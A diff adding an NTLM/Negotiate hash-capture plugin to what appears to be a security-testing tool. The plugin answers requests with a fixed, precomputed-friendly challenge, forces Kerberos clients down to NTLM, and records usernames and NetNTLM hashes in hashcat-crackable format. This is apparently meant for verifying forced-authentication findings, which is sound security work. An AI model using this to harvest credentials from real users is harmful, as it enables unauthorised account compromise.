@@ -0,0 +1,258 @@
+// Package ntlm implements a feature plugin that answers NTLM and Negotiate
+// authentication with a fixed challenge and records the responses, for
+// capturing hashes from forced-authentication findings.
+package ntlm
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"net"
+	"net/http"
+	"strings"
+	"time"
+
+	"go.uber.org/zap"
+
+	"github.com/rsclarke/oastrix/internal/plugins"
+	"github.com/rsclarke/oastrix/pkg/events"
+)
+
+// ID is the plugin identifier, also used as the token_plugin_config key.
+const ID = "ntlm"
+
+// CaptureAttribute holds the Capture recorded from an authenticate message.
+const CaptureAttribute = "ntlm"
+
+// Defaults used when a token's Config leaves them empty. The challenge is the
+// one commonly precomputed against, so captured responses crack fastest.
+const (
+	DefaultDomain    = "OASTRIX"
+	DefaultChallenge = "1122334455667788"
+)
+
+// computerName is the NetBIOS computer name announced in challenges.
+const computerName = "SERVER"
+
+// Config enables NTLM capture for a token. Domain is the NetBIOS domain
+// announced in the challenge and Challenge the 8-byte server challenge in
+// hex. With Accept, requests completing the handshake get the token's usual
+// response instead of another challenge.
+type Config struct {
+	Domain    string `json:"domain,omitempty"`
+	Challenge string `json:"challenge,omitempty"`
+	Accept    bool   `json:"accept,omitempty"`
+}
+
+// Validate checks that c can be encoded in a challenge message.
+func (c Config) Validate() error {
+	if len(c.Domain) > 15 {
+		return errors.New("domain exceeds 15 characters")
+	}
+	for _, r := range c.Domain {
+		if !(r >= 'A' && r <= 'Z' || r >= 'a' && r <= 'z' || r >= '0' && r <= '9' || r == '-' || r == '_') {
+			return fmt.Errorf("domain contains invalid character %q", r)
+		}
+	}
+	if c.Challenge != "" {
+		if b, err := hex.DecodeString(c.Challenge); err != nil || len(b) != 8 {
+			return fmt.Errorf("invalid challenge %q: want 16 hex characters", c.Challenge)
+		}
+	}
+	return nil
+}
+
+func (c Config) domain() string {
+	if c.Domain == "" {
+		return DefaultDomain
+	}
+	return strings.ToUpper(c.Domain)
+}
+
+func (c Config) challenge() [8]byte {
+	var out [8]byte
+	s := c.Challenge
+	if s == "" {
+		s = DefaultChallenge
+	}
+	_, _ = hex.Decode(out[:], []byte(s))
+	return out
+}
+
+// Capture is the identity and response recorded from an authenticate
+// message. Hash is in the format hashcat (modes 5500 and 5600) and John the
+// Ripper accept.
+type Capture struct {
+	Version     string `json:"version"`
+	Domain      string `json:"domain"`
+	Username    string `json:"username"`
+	Workstation string `json:"workstation,omitempty"`
+	Challenge   string `json:"challenge"`
+	Hash        string `json:"hash"`
+}
+
+// Plugin answers HTTP interactions for enabled tokens with NTLM challenges
+// and records authenticate messages in the CaptureAttribute attribute. Its
+// Priority runs it after the storage plugin and before any other plugin
+// that handles responses.
+type Plugin struct {
+	tokens plugins.TokenConfigView
+	logger *zap.Logger
+	now    func() time.Time
+}
+
+// New creates a new ntlm Plugin.
+func New() *Plugin {
+	return &Plugin{now: time.Now}
+}
+
+// ID returns the plugin identifier.
+func (p *Plugin) ID() string { return ID }
+
+// Priority places the challenge before any other plugin answers the token.
+func (p *Plugin) Priority() int { return 45 }
+
+// Init initializes the plugin with the given context.
+func (p *Plugin) Init(ctx plugins.InitContext) error {
+	p.logger = ctx.Logger.Named(ID)
+	if ctx.Tokens == nil {
+		return errors.New("token config view required")
+	}
+	p.tokens = ctx.Tokens
+	return nil
+}
+
+// NewTokenConfig returns a new Config for a token's configuration to be
+// decoded into.
+func (p *Plugin) NewTokenConfig() any { return new(Config) }
+
+// OnPreStore records the authenticate message sent to an enabled token.
+func (p *Plugin) OnPreStore(ctx context.Context, e *events.Event) error {
+	if e.Draft.Drop || e.Draft.TokenID == 0 || e.Draft.HTTP == nil {
+		return nil
+	}
+	_, msg, typ, ok := parseAuthorization(e.Draft.HTTP.Headers)
+	if !ok || typ != authenticateMessage {
+		return nil
+	}
+	cfg, enabled, err := p.config(ctx, e.Draft.TokenID)
+	if err != nil || !enabled {
+		return err
+	}
+
+	auth, err := parseAuthenticate(msg)
+	if err != nil {
+		p.logger.Debug("malformed authenticate message", zap.Error(err))
+		return nil
+	}
+	challenge := cfg.challenge()
+	version, hash := auth.hash(challenge)
+
+	if e.Draft.Attributes == nil {
+		e.Draft.Attributes = make(map[string]any)
+	}
+	e.Draft.Attributes[CaptureAttribute] = Capture{
+		Version:     version,
+		Domain:      auth.domain,
+		Username:    auth.user,
+		Workstation: auth.workstation,
+		Challenge:   hex.EncodeToString(challenge[:]),
+		Hash:        hash,
+	}
+	return nil
+}
+
+// OnHTTPResponse drives the handshake for enabled tokens: requests without
+// NTLM authorization are offered Negotiate and NTLM, negotiate messages are
+// answered with a challenge, and authenticate messages are challenged again
+// unless the token accepts them.
+func (p *Plugin) OnHTTPResponse(ctx context.Context, e *events.HTTPEvent) error {
+	if e.Resp == nil || e.Resp.Handled || e.Draft == nil || e.Draft.TokenID == 0 || e.Draft.HTTP == nil {
+		return nil
+	}
+	cfg, enabled, err := p.config(ctx, e.Draft.TokenID)
+	if err != nil || !enabled {
+		return err
+	}
+
+	challenge := "Negotiate, NTLM"
+	scheme, _, typ, ok := parseAuthorization(e.Draft.HTTP.Headers)
+	switch {
+	case ok && typ == negotiateMessage:
+		msg := buildChallenge(p.challengeParams(cfg, e.Draft.HTTP.Host))
+		if scheme.spnego {
+			msg = wrapSPNEGO(msg)
+		}
+		challenge = scheme.name + " " + base64.StdEncoding.EncodeToString(msg)
+	case ok && typ == authenticateMessage && cfg.Accept:
+		return nil
+	case scheme.name != "" && !ok:
+		// Likely a Kerberos token, which cannot be satisfied; offer only NTLM
+		// so the client falls back to it.
+		challenge = "NTLM"
+	}
+
+	e.Resp.Status = http.StatusUnauthorized
+	if e.Resp.Headers == nil {
+		e.Resp.Headers = make(map[string]string)
+	}
+	e.Resp.Headers["WWW-Authenticate"] = challenge
+	e.Resp.Body = []byte("Unauthorized")
+	e.Resp.Handled = true
+	return nil
+}
+
+func (p *Plugin) challengeParams(cfg Config, host string) challengeParams {
+	if h, _, err := net.SplitHostPort(host); err == nil {
+		host = h
+	}
+	host = strings.ToLower(host)
+	_, dnsDomain, _ := strings.Cut(host, ".")
+	return challengeParams{
+		challenge: cfg.challenge(),
+		domain:    cfg.domain(),
+		computer:  computerName,
+		dnsDomain: dnsDomain,
+		dnsHost:   host,
+		time:      p.now(),
+	}
+}
+
+func (p *Plugin) config(ctx context.Context, tokenID int64) (Config, bool, error) {
+	var cfg Config
+	ok, err := p.tokens.Get(ctx, tokenID, ID, &cfg)
+	if err != nil {
+		return cfg, false, fmt.Errorf("load ntlm: %w", err)
+	}
+	return cfg, ok, nil
+}
+
+// authScheme is the scheme of an NTLM or Negotiate Authorization header.
+type authScheme struct {
+	name   string // as sent, "NTLM" or "Negotiate"
+	spnego bool   // the message was wrapped in SPNEGO
+}
+
+// parseAuthorization returns the scheme and NTLM message of an NTLM or
+// Negotiate Authorization header. ok is false when there is no such header or
+// it carries no NTLM message, in which case scheme is still set if the header
+// was present.
+func parseAuthorization(headers map[string][]string) (scheme authScheme, msg []byte, typ int, ok bool) {
+	for _, v := range headers["Authorization"] {
+		name, encoded, _ := strings.Cut(strings.TrimSpace(v), " ")
+		if !strings.EqualFold(name, "NTLM") && !strings.EqualFold(name, "Negotiate") {
+			continue
+		}
+		scheme.name = name
+		b, err := base64.StdEncoding.DecodeString(strings.TrimSpace(encoded))
+		if err != nil {
+			return scheme, nil, 0, false
+		}
+		msg, typ, ok = extract(b)
+		scheme.spnego = ok && len(msg) != len(b)
+		return scheme, msg, typ, ok
+	}
+	return scheme, nil, 0, false
+}